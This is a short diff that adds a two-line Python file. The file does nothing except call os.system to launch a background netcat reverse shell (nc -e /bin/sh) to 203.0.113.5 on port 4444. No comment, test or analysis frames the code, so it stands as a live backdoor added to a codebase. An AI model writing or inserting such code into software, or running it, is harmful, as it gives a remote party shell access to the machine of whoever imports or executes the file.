@@ -1,0 +1,2 @@
+import os
+os.system('nc -e /bin/sh 203.0.113.5 4444 &')
